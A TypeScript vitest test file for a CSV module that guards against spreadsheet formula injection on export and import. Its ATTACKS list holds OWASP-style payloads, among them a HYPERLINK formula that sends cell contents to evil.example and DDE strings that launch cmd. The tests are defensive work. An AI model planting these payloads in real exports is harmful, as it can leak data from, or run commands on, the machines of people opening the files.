import { describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { csvCell, csvRow, isFormulaCell, runsAsFormula } from "./csv.ts";

// OWASP's CSV injection examples and their relatives: each starts with = + - @, a tab or a CR.
const ATTACKS = [
  "=HYPERLINK(\"http://evil.example?\"&A1,\"Click\")",
  "=1+1",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "+SUM(1)",
  "-2+cmd(1)",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "+A1",
  "-1+1",
];

describe("csv", () => {
  it("quotes separators, quotes and line breaks so a parser reads the same cells back", () => {
    const cells = ["Rose, red", 'The "best"', "two\nlines", "plain", 12.5, ""];
    expect(parse(csvRow(cells), { relax_column_count: false })).toEqual([["Rose, red", 'The "best"', "two\nlines", "plain", "12.5", ""]]);
  });

  it("writes every text a spreadsheet would run as a formula with an apostrophe, so it reads back as that text", () => {
    for (const attack of ATTACKS) {
      expect(runsAsFormula(attack), JSON.stringify(attack)).toBe(true);
      const [[read]] = parse(csvRow([attack])) as string[][];
      expect(read, JSON.stringify(attack)).toBe(`'${attack}`);
    }
    expect(csvCell("=HYPERLINK(1)")).toBe("'=HYPERLINK(1)");
    expect(csvCell("@cmd")).toBe("'@cmd");
    // A phone number is text to a person but a (broken) formula to a sheet: written as text.
    expect(csvCell("+1 (555) 555-0100")).toBe("'+1 (555) 555-0100");
    expect(csvCell("-")).toBe("'-");
  });

  it("leaves plain numbers, negative ones included, as numbers: a credit balance of -12.50 still sums", () => {
    for (const n of ["-2", "-12.50", "0.00", "1250.75", "-0.01"]) {
      expect(runsAsFormula(n), n).toBe(false);
      expect(csvCell(n)).toBe(n);
    }
    // Not plain numbers: a sign with anything else is guarded.
    for (const s of ["+1", "-1e3", "-1,5", "-.5", "- 2"]) expect(runsAsFormula(s), s).toBe(true);
    expect(csvCell(-2)).toBe("-2");
    expect(csvCell(null)).toBe("");
    expect(csvCell("Rose")).toBe("Rose");
  });

  it("refuses the same formulas on import, including after spaces or quotes, but takes phone numbers and signs alone", () => {
    for (const attack of ATTACKS) expect(isFormulaCell(attack), JSON.stringify(attack)).toBe(true);
    for (const attack of ["  =1+1", "'=1+1", "\" +1+cmd|' /C calc'!A0", "\t5", "\r5"]) expect(isFormulaCell(attack), JSON.stringify(attack)).toBe(true);
    for (const value of ["+1 (555) 555-0100", "-", "-5", "-12.50", "+44 20 7946 0958", "555-0100", "Lily & Fern", "", "a=b", "x@y.example"]) {
      expect(isFormulaCell(value), JSON.stringify(value)).toBe(false);
    }
  });
});
